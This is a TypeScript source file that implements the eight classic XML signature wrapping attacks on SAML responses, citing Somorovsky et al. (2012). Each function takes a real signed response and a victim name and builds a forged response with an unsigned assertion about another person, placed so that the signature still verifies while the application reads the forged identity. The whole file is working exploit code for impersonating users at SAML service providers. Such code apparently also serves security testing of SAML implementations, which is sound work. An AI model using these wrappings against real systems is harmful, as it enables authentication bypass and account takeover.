// The eight classic forms of XML signature wrapping (Somorovsky et al., “On Breaking SAML: Be Whoever You Want to Be”,
// 2012). Each keeps the signed element where a verifier finds it, and adds a copy about another person where the
// application reads it.

type Parts = {
  /** The signed assertion, with its signature. */
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  /** The unsigned copy about another person, with its own id. */
  readonly evil: string;
};

function partsOf(xml: string, evilName: string): Parts {
  const [assertion = ''] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml) ?? [];
  const [signature = ''] = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(assertion) ?? [];
  const bare = assertion.replace(signature, '');
  const evil = bare.replace(/ID="[^"]*"/, 'ID="_evil"').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilName}`);
  if (signature === '' || !evil.includes(evilName)) throw new Error('There is no signed assertion to wrap');
  return { assertion, signature, bare, evil };
}

const inside = (element: string, more: string) => element.replace(/(<\/saml:Assertion>)$/, `${more}$1`);
const afterIssuer = (element: string, more: string) =>
  element.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const withObject = (signature: string, object: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${object}</ds:Object></ds:Signature>`);
const extensions = (content: string) => `<samlp:Extensions>${content}</samlp:Extensions>`;

/** A signed response inside the copy about another person (1 and 2). */
function aroundResponse(xml: string, evilName: string, place: (signature: string, signed: string) => string) {
  const { assertion, signature, evil } = partsOf(xml, evilName);
  const whole = xml.replace(/^<\?xml[^>]*>/, '');
  return whole
    .replace(/ID="[^"]*"/, 'ID="_evil_response"')
    .replace(assertion, () => evil)
    .replace('<samlp:Status>', () => `${place(signature, whole.replace(signature, ''))}<samlp:Status>`);
}

/** By the number of the form. */
export const wrappings: readonly ((xml: string, evilName: string) => string)[] = [
  // 1: a new response; the signature contains the signed one.
  (xml, name) => aroundResponse(xml, name, (signature, signed) => withObject(signature, signed)),
  // 2: a new response; the signed one is next to the signature.
  (xml, name) => aroundResponse(xml, name, (signature, signed) => `${extensions(signed)}${signature}`),
  // 3: the copy before the signed assertion.
  (xml, name) => {
    const { assertion, evil } = partsOf(xml, name);
    return xml.replace(assertion, () => evil + assertion);
  },
  // 4: the copy around the signed assertion.
  (xml, name) => {
    const { assertion, evil } = partsOf(xml, name);
    return xml.replace(assertion, () => inside(evil, assertion));
  },
  // 5: the signature inside the copy, the signed assertion after it.
  (xml, name) => {
    const { assertion, signature, bare, evil } = partsOf(xml, name);
    return xml.replace(assertion, () => afterIssuer(evil, signature) + bare);
  },
  // 6: the signature inside the copy and around the signed assertion.
  (xml, name) => {
    const { assertion, signature, bare, evil } = partsOf(xml, name);
    const nested = signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`);
    return xml.replace(assertion, () => afterIssuer(evil, nested));
  },
  // 7: the copy in extensions, before the signed assertion.
  (xml, name) => {
    const { evil } = partsOf(xml, name);
    return xml.replace('<samlp:Status>', () => `${extensions(evil)}<samlp:Status>`);
  },
  // 8: the signature inside the copy, with an object that contains the signed assertion.
  (xml, name) => {
    const { assertion, signature, bare, evil } = partsOf(xml, name);
    return xml.replace(assertion, () => afterIssuer(evil, withObject(signature, bare)));
  },
];
